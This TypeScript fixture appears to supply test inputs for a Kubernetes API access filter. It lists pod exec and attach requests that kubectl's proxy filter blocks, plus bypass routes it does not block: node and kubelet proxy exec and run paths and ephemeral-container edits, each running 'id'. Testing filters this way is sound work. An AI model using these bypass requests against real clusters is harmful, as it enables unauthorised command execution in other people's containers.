import type { AttackRequest } from '../leg.js';

const pod = '/api/v1/namespaces/default/pods/web-0';
/** Requests that run a command in a container at the paths that kubectl's filter rejects. */
export const byPath: readonly AttackRequest[] = [
  { target: `${pod}/exec?command=id` },
  { method: 'POST', target: `${pod}/exec?command=id` },
  { target: `${pod}/attach` },
];
/** Other ways to run one: kubectl's filter does not stop these. */
export const otherWays: readonly AttackRequest[] = [
  { target: '/api/v1/nodes/node-0/proxy/exec/default/web-0/main?command=id' },
  { method: 'POST', target: '/api/v1/nodes/node-0/proxy/run/default/web-0/main?cmd=id' },
  { target: '/api/v1/nodes/node-0:10250/proxy/exec/default/web-0/main?command=id' },
  { target: '/api/v1/nodes/node-0/proxy/attach/default/web-0/main' },
  { method: 'PATCH', target: `${pod}/ephemeralcontainers` },
  { method: 'PUT', target: `${pod}/ephemeralcontainers` },
];
